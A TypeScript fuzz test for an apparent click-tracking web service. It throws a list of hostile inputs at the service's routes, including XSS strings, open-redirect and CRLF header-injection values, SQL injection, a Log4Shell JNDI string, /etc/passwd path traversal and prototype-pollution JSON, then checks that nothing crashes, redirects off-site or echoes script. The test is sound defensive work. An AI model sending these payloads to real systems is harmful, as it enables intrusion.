import { env, listDurableObjectIds, runDurableObjectAlarm } from 'cloudflare:test'
import fc from 'fast-check'
import { expect, it } from 'vitest'
import type { Report } from '../../shared/report.ts'
import { ask, clickIdIn, givenTeam, ORIGIN } from '../testing/given.ts'

const NASTY = [
  'javascript:alert(1)',
  '//evil.example/x',
  'https://evil.example',
  '\r\nSet-Cookie: a=b',
  '%0d%0aLocation: //evil.example',
  '<script>alert(1)</script>',
  `"><img src=x onerror=alert(1)>`,
  `' or 1=1 --`,
  '${jndi:ldap://evil}',
  '../../../../etc/passwd',
  '%E0%A4%A',
  '\u0000',
  '🂡'.repeat(50),
  'x'.repeat(8_000),
  '{"__proto__":{"polluted":true}}',
  '__proto__',
  '99999999999999999999999999',
  '-1e50',
  '9'.repeat(400),
]

const nasty = fc.oneof(fc.constantFrom(...NASTY), fc.string({ unit: 'binary', maxLength: 80 }))

it('meets hostile requests with no failure, no stranger’s redirect and no echo', async () => {
  const team = await givenTeam()
  const offer = await team.offer({ subIdParam: 'sub' })
  const site = await team.site([offer], { slug: 'a-site' })
  const source = await team.source()
  const destination = { kind: 'offers' as const, offers: [{ offerId: offer.id, weight: 1 }] }
  await team.campaign({ slug: 'direct', trafficSourceId: source.id, destination })
  await team.campaign({ slug: 'to-site', destination: { kind: 'site', siteId: site.id } })
  const clickId = clickIdIn(await ask('/c/direct'))

  const bases = [
    '/c/direct',
    '/c/to-site',
    '/s/a-site',
    '/s/a-site/terms',
    `/go/${offer.key}`,
    `/postback/${offer.postbackKey}`,
    '/healthz',
    '/api/v1/session',
  ]
  const names = [
    'v',
    's',
    'p',
    'visitor_id',
    'cost',
    'zone',
    'clickid',
    'event',
    'amount',
    'preview',
    'url',
  ]
  const query = fc.array(fc.tuple(fc.oneof(fc.constantFrom(...names), nasty), nasty), {
    maxLength: 5,
  })
  const request = fc.record({
    path: fc.oneof(
      fc.constantFrom(...bases),
      fc
        .tuple(fc.constantFrom('/c/', '/s/', '/go/', '/postback/', '/e/', '/', '/api/v1/'), nasty)
        .map(([start, rest]) => start + encodeURIComponent(rest.toWellFormed())),
    ),
    query,
    raw: fc.boolean(),
    method: fc.constantFrom('GET', 'GET', 'POST', 'HEAD', 'PUT', 'OPTIONS'),
    agent: nasty,
    body: fc.oneof(nasty, fc.json(), fc.constant(`clickid=${clickId}&event=registration`)),
    type: fc.constantFrom(
      'application/json',
      'application/x-www-form-urlencoded',
      'text/plain',
      'x',
    ),
  })

  await fc.assert(
    fc.asyncProperty(request, async ({ path, query, raw, method, agent, body, type }) => {
      const pairs = query.map(([name, value]) => {
        if (raw) return `${name}=${value}`.replace(/[\s#]/g, '')
        return `${encodeURIComponent(name.toWellFormed())}=${encodeURIComponent(value.toWellFormed())}`
      })
      const headers = { 'user-agent': agent.replace(/[^\x20-\x7e]/g, '?'), 'content-type': type }
      const hasBody = method === 'POST' || method === 'PUT'
      const response = await ask(`${path}?${pairs.join('&')}`, {
        method,
        headers,
        ...(hasBody && { body }),
      })
      expect(response.status).toBeLessThan(500)
      const location = response.headers.get('location')
      if (location !== null) {
        expect(['https://casino.example', ORIGIN]).toContain(new URL(location, ORIGIN).origin)
      }
      const text = method === 'HEAD' ? '' : await response.text()
      if ((response.headers.get('content-type') ?? '').includes('html')) {
        expect(text).not.toContain('<script>alert')
        expect(text).not.toContain('onerror=alert(1)>')
      }
      expect(({} as { polluted?: boolean }).polluted).toBeUndefined()
    }),
    { numRuns: 1_500 },
  )
  // And what was kept of it can be read: nothing lies in wait.
  for (const inbox of await listDurableObjectIds(env.POSTBACK_INBOX)) {
    await runDurableObjectAlarm(env.POSTBACK_INBOX.get(inbox))
  }
  for (const ledger of await listDurableObjectIds(env.CLICK_LEDGER)) {
    await runDurableObjectAlarm(env.CLICK_LEDGER.get(ledger))
  }
  for (const path of ['/postbacks?limit=500', '/conversions', '/visits?limit=500', '/clicks']) {
    expect((await team.send('GET', path)).status).toBe(200)
  }
  const report = await team.call<Report>('GET', '/reports/site?groupBy=day,offer')
  expect(report.totals.metrics['clicks']).toBeGreaterThan(0)
}, 240_000)
